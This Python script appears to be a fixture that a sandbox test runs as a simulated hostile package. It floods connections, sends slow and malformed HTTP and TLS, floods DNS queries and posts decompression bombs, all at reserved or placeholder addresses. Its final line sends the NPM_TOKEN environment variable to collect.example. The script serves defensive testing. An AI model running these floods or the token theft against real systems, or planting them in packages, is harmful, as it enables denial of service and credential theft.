"""What the package of test_floods.py runs in the box: everything at once, then one theft. Not imported."""

from __future__ import annotations

import contextlib
import gzip
import io
import os
import socket
import struct
import urllib.request
import zipfile

KEPT: list[socket.socket] = []
BROKEN = (
    b"\x16\x03\x01\x00\x05hello",
    b"\x16\x03\x01\xff\xff" + os.urandom(200),
    b"GET \x00 nonsense\r\n\r\n",
    b"POST / HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\nZZ\r\n",
    b"GET / HTTP/1.1\r\n" + b"x: y\r\n" * 20_000 + b"\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
)


def connections(count: int, held: int) -> None:
    """Many connections, ``held`` of them at a time."""
    for number in range(count):
        sock = socket.socket()
        sock.setblocking(False)
        with contextlib.suppress(OSError):
            sock.connect((f"192.0.2.{1 + number % 200}", 8000 + number % 50))
        KEPT.append(sock)
        if len(KEPT) > held:
            KEPT.pop(0).close()


def slow_requests() -> None:
    """Requests that never end."""
    for _ in range(300):
        with contextlib.suppress(OSError):
            sock = socket.create_connection(("192.0.2.7", 80), 5)
            sock.send(b"GET / HTTP/1.1\r\nx: ")
            KEPT.append(sock)


def broken() -> None:
    """TLS and HTTP that are none."""
    for bad in BROKEN:
        with contextlib.suppress(OSError), socket.create_connection(("192.0.2.31", 443), 5) as sock:
            sock.settimeout(2)
            sock.send(bad)
            sock.recv(100)


def names() -> None:
    """A flood of look-ups, some of them broken."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for number in range(5_000):
            label = f"n{number}".encode()
            head = struct.pack("!HHHHHH", number & 65_535, 256, 1, 0, 0, 0)
            query = head + bytes([len(label)]) + label + b"\x05flood\x07example\0\0\1\0\1"
            sock.sendto(query if number % 4 else os.urandom(40), ("10.88.0.1", 53))


def bombs() -> None:
    """Small bodies that are large when unpacked."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for number in range(2):
            archive.writestr(f"z{number}", bytes(32 << 20))
    for body in (gzip.compress(gzip.compress(bytes(64 << 20), 6), 9), file.getvalue()):
        urllib.request.urlopen("http://bomb.example/x", body, 30).read()


def much(size: int) -> None:
    """Bytes without end, in no protocol."""
    block = os.urandom(1 << 20)
    with contextlib.suppress(OSError), socket.create_connection(("192.0.2.99", 9000), 5) as sock:
        for _ in range(size >> 20):
            sock.sendall(block)


if __name__ == "__main__":
    connections(10_000, 3_000)
    slow_requests()
    broken()
    names()
    bombs()
    much(48 << 20)
    urllib.request.urlopen("https://collect.example/after", os.environ["NPM_TOKEN"].encode(), 30).read()
